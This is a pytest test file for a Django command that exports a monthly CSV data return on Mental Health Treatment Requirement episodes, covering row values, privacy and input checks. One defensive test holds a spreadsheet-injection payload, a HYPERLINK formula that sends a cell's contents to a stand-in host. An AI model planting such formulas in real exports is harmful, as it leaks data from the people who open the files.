"""`manage.py export_mhtr_return` on the hand-worked world of tests/reporting/mhtr_known.py."""

import csv
import os
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import CommandError, call_command

from healthjustice.audit.models import Action, AuditEvent
from healthjustice.reporting import mhtr_return
from healthjustice.reporting.mhtr_return import COLUMN_NAMES
from tests.reporting.mhtr_known import build_mhtr_known, on

pytestmark = pytest.mark.django_db

EXPECTED_COLUMNS = [
    "episode_ref",
    "region",
    "team",
    "referral_source",
    "referred_at",
    "age_group",
    "sex",
    "ethnic_category_code",
    "ethnic_code_list",
    "stage_at_month_end",
    "suitability_outcome",
    "suitability_assessed_on",
    "psr_view_given_at",
    "proposed_to_court",
    "court_outcome",
    "sentenced_on",
    "order_type",
    "treatment_type",
    "order_months",
    "order_ends_on",
    "planned_sessions",
    "first_attended_on",
    "days_sentence_to_first_attended",
    "sessions_attended_in_month",
    "sessions_dna_in_month",
    "sessions_cancelled_unacceptable_in_month",
    "sessions_cancelled_acceptable_in_month",
    "sessions_cancelled_by_service_in_month",
    "compliance_notices_in_month",
    "closed_at",
    "closure_reason",
    "order_ended_in_month",
    "order_completed_in_month",
    "reliable_improvement",
    "reliable_deterioration",
    "recovery",
]


@pytest.fixture
def known():
    return build_mhtr_known()


def _read(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with path.open(newline="", encoding="utf-8") as f:
        reader = csv.DictReader(f)
        return list(reader.fieldnames or []), list(reader)


def _export(known, month, tmp_path, region="Staffordshire"):
    out = tmp_path / "mhtr.csv"
    call_command("export_mhtr_return", month=month.key, region=region, out=str(out))
    columns, rows = _read(out)
    by_ref = {r["episode_ref"]: r for r in rows}
    refs = {str(e.public_id): name for name, e in known.episodes.items()}
    return columns, {refs[ref]: row for ref, row in by_ref.items()}


def test_export_mhtr_return_has_one_row_per_episode_active_in_the_month(known, tmp_path):
    columns, rows = _export(known, known.b, tmp_path)
    assert columns == EXPECTED_COLUMNS == list(COLUMN_NAMES)
    assert sorted(rows) == ["e1", "e10", "e2", "e4", "e5", "e6", "e7", "e8", "e9"]
    _, rows_a = _export(known, known.a, tmp_path)
    assert sorted(rows_a) == ["e1", "e2", "e3", "e9"]
    events = AuditEvent.objects.filter(action=Action.EXPORT, object_type="data_return")
    assert [(e.detail["return"], e.detail["rows"]) for e in events.order_by("pk")] == [
        ("mhtr", 9),
        ("mhtr", 4),
    ]


def test_export_mhtr_return_row_values(known, tmp_path):
    b, a = known.b, known.a
    _, rows = _export(known, b, tmp_path)
    e1 = rows["e1"]
    assert e1["region"] == "Staffordshire" and e1["team"] == "Staffordshire MHTR"
    assert (e1["referral_source"], e1["age_group"], e1["sex"]) == ("ld", "25-34", "2")
    assert (e1["ethnic_category_code"], e1["ethnic_code_list"]) == ("A", "2001")
    assert e1["stage_at_month_end"] == "closed"
    assert (e1["suitability_outcome"], e1["suitability_assessed_on"]) == (
        "suitable",
        on(a, 3).isoformat(),
    )
    assert e1["psr_view_given_at"].startswith(on(a, 4).isoformat() + "T12:00:00")
    assert (e1["proposed_to_court"], e1["court_outcome"]) == ("yes", "order_made")
    assert e1["sentenced_on"] == on(a, 10).isoformat()
    assert (e1["order_type"], e1["treatment_type"], e1["order_months"]) == (
        "community_order",
        "practitioner",
        "6",
    )
    assert e1["planned_sessions"] == "12"
    assert (e1["first_attended_on"], e1["days_sentence_to_first_attended"]) == (
        on(a, 12).isoformat(),
        "2",
    )
    assert [
        e1[f"sessions_{k}_in_month"]
        for k in ("attended", "dna", "cancelled_unacceptable", "cancelled_acceptable")
    ] == ["1", "0", "1", "1"]
    assert e1["sessions_cancelled_by_service_in_month"] == "1"
    assert e1["compliance_notices_in_month"] == "1"
    assert e1["closed_at"].startswith(on(b, 25).isoformat())
    assert e1["closure_reason"] == "order_completed"
    assert (e1["order_ended_in_month"], e1["order_completed_in_month"]) == ("yes", "yes")

    assert rows["e2"]["referral_source"] == "probation"  # the MHTR referral's route
    assert (rows["e2"]["order_ended_in_month"], rows["e2"]["order_completed_in_month"]) == (
        "yes",
        "no",
    )
    assert rows["e9"]["order_ended_in_month"] == "no"  # a transfer is not an ending
    assert (rows["e4"]["proposed_to_court"], rows["e4"]["court_outcome"]) == (
        "yes",
        "no_order_made",
    )
    assert rows["e4"]["order_type"] == "" and rows["e4"]["referral_source"] == "other"
    assert rows["e5"]["suitability_outcome"] == "suitable"
    assert rows["e6"]["proposed_to_court"] == "no" and rows["e6"]["court_outcome"] == "order_made"
    assert rows["e7"]["stage_at_month_end"] == "referred"
    assert rows["e8"]["proposed_to_court"] == "no"
    assert rows["e10"]["team"] == "South Staffordshire MHTR"


def test_export_mhtr_return_rows_are_as_at_the_end_of_the_month(known, tmp_path):
    _, rows = _export(known, known.a, tmp_path)
    e1 = rows["e1"]
    assert e1["stage_at_month_end"] == "in_treatment"
    assert (e1["closed_at"], e1["closure_reason"], e1["order_ended_in_month"]) == ("", "", "no")
    assert (e1["sessions_attended_in_month"], e1["sessions_dna_in_month"]) == ("1", "1")
    assert e1["compliance_notices_in_month"] == "1"
    assert rows["e3"]["closure_reason"] == "not_suitable"


def test_export_mhtr_return_holds_no_names_nhs_numbers_or_birth_dates(known, tmp_path):
    out = tmp_path / "mhtr.csv"
    call_command("export_mhtr_return", month=known.b.key, region="staffordshire", out=str(out))
    text = out.read_text()
    for episode in known.episodes.values():
        person = episode.person
        assert person.family_name not in text
        assert person.nhs_number not in text
        if person.date_of_birth:
            assert person.date_of_birth.isoformat() not in text
        assert str(person.public_id) not in text


@pytest.mark.parametrize("month", ["2026-13", "03-2026", "2026-3", "March", ""])
def test_export_mhtr_return_bad_month_is_refused(known, tmp_path, month):
    out = tmp_path / "mhtr.csv"
    with pytest.raises(CommandError, match=r"YYYY-MM|01 to 12"):
        call_command("export_mhtr_return", month=month, region="Staffordshire", out=str(out))
    assert not out.exists()


def test_export_mhtr_return_unknown_region_is_refused(known, tmp_path):
    out = tmp_path / "mhtr.csv"
    with pytest.raises(CommandError, match="There is no region called 'Atlantis'"):
        call_command("export_mhtr_return", month="2026-03", region="Atlantis", out=str(out))
    assert not out.exists()
    assert not AuditEvent.objects.filter(object_type="data_return").exists()


def test_export_mhtr_return_to_a_missing_folder_or_a_folder_is_refused(known, tmp_path):
    missing = tmp_path / "no-such-folder" / "mhtr.csv"
    with pytest.raises(CommandError, match="does not exist"):
        call_command(
            "export_mhtr_return", month="2026-03", region="Staffordshire", out=str(missing)
        )
    assert not missing.parent.exists()
    with pytest.raises(CommandError, match="is a folder"):
        call_command(
            "export_mhtr_return", month="2026-03", region="Staffordshire", out=str(tmp_path)
        )


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write to any folder")
def test_export_mhtr_return_to_a_read_only_folder_is_refused(known, tmp_path):
    folder = tmp_path / "locked"
    folder.mkdir()
    folder.chmod(0o500)
    try:
        with pytest.raises(CommandError, match="cannot be written"):
            call_command(
                "export_mhtr_return",
                month="2026-03",
                region="Staffordshire",
                out=str(folder / "mhtr.csv"),
            )
    finally:
        folder.chmod(0o700)
    assert list(folder.iterdir()) == []


def test_export_mhtr_return_failing_half_way_leaves_no_partial_file(known, tmp_path, monkeypatch):
    def failing(context):
        raise RuntimeError("disk full")

    broken = mhtr_return.Column("closure_reason", failing)
    columns = tuple(broken if c.name == "closure_reason" else c for c in mhtr_return.COLUMNS)
    monkeypatch.setattr(mhtr_return, "COLUMNS", columns)
    out = tmp_path / "mhtr.csv"
    with pytest.raises(RuntimeError):
        call_command("export_mhtr_return", month=known.b.key, region="Staffordshire", out=str(out))
    assert list(tmp_path.iterdir()) == []


def test_export_mhtr_return_for_a_month_with_no_episodes_writes_the_header_only(known, tmp_path):
    out = tmp_path / "mhtr.csv"
    call_command("export_mhtr_return", month="2001-01", region="Staffordshire", out=str(out))
    assert _read(out) == (EXPECTED_COLUMNS, [])


def test_export_mhtr_return_cannot_carry_a_spreadsheet_formula(tmp_path):
    hostile = '=HYPERLINK("https://example.invalid/?d="&A2,"Open")'
    known = build_mhtr_known(team_name=hostile)
    known.region.name = "@Staffordshire"
    known.region.save()
    out = tmp_path / "mhtr.csv"
    call_command("export_mhtr_return", month=known.b.key, region="@Staffordshire", out=str(out))
    _, rows = _read(out)
    assert {r["team"] for r in rows} == {"'" + hostile, "South Staffordshire MHTR"}
    assert {r["region"] for r in rows} == {"'@Staffordshire"}


def test_every_mhtr_return_column_and_figure_is_documented():
    text = (Path(settings.BASE_DIR) / "docs" / "mhtr-return.md").read_text()
    documented = set(re.findall(r"^\| `([a-z_]+)` \|", text, flags=re.MULTILINE))
    assert documented == set(COLUMN_NAMES)
    from healthjustice.reporting.mhtr_dashboard import FIGURES

    for figure in FIGURES:
        assert f"`{figure.id}`" in text, figure.id


def test_export_mhtr_return_to_a_folder_it_may_not_write_is_refused(known, tmp_path, monkeypatch):
    """The same refusal for any user (root may write anywhere, so the check is simulated)."""
    monkeypatch.setattr("healthjustice.reporting.data_return.os.access", lambda *a: False)
    out = tmp_path / "mhtr.csv"
    with pytest.raises(CommandError, match="cannot be written"):
        call_command("export_mhtr_return", month=known.b.key, region="Staffordshire", out=str(out))
    assert list(tmp_path.iterdir()) == []
